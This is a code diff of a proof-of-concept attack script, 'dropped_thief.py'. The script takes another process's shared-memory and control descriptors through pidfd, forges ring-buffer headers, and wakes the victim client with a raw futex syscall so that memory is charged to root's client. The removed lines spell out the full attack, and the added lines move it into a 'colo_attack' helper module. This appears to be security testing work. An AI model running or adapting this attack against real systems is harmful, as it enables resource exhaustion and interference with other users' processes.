@@ -7,14 +7,14 @@ toward root's client it never writes (holes) and FIN, rings the client, and prin
 memfd, charged to root's client, while it holds the connection.
 Usage: dropped_thief.py PID"""
 import ctypes
-import mmap
 import os
 import socket
 import struct
 import sys
-import time
 
-HEADER = 1024
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+import colo_attack as ca  # noqa: E402
+
 pid = int(sys.argv[1])
 libc = ctypes.CDLL(None, use_errno=True)
 pidfd = os.pidfd_open(pid)
@@ -48,40 +48,4 @@ for name in os.listdir("/proc/%d/fd" % pid):
 print("TOOK segment=%s control=%s" % (seg, ctl), flush=True)
 if seg is None:
     sys.exit(0)
-size = os.fstat(seg).st_size
-m = mmap.mmap(seg, size)
-capacity, slot_size, slots = struct.unpack_from("<III", m, 24)
-S2C = HEADER + (size - HEADER) // 2
-DATA = (768 + 12 * slots + 1023) // 1024 * 1024
-
-
-def mib():
-    at, total = S2C + DATA, 0
-    while at < size:
-        try:
-            data = os.lseek(seg, at, os.SEEK_DATA)
-        except OSError:
-            break
-        hole = os.lseek(seg, data, os.SEEK_HOLE)
-        total += hole - data
-        at = hole
-    return total >> 20
-
-
-head = struct.unpack_from("<Q", m, S2C)[0]
-struct.pack_into("<I", m, S2C + 12, capacity)
-struct.pack_into("<Q", m, S2C, head + capacity)
-struct.pack_into("<I", m, S2C + 8, 1)  # FIN
-if ctl is not None:
-    try:
-        os.write(ctl, b"r")
-    except OSError:
-        pass
-addr = ctypes.addressof(ctypes.c_char.from_buffer(m, 128))  # client_waiting
-libc.syscall(202, ctypes.c_void_p(addr), 1, 0x7FFFFFFF, None, None, 0)  # FUTEX_WAKE
-end = time.time() + 20
-while time.time() < end and struct.unpack_from("<Q", m, S2C + 128)[0] < head + capacity:
-    time.sleep(0.05)
-time.sleep(0.5)
-print("READ %d of %d" % (struct.unpack_from("<Q", m, S2C + 128)[0] - head, capacity), flush=True)
-print("ALLOCATED %d" % mib(), flush=True)
+ca.claim_ring_toward_client(seg, ctl)
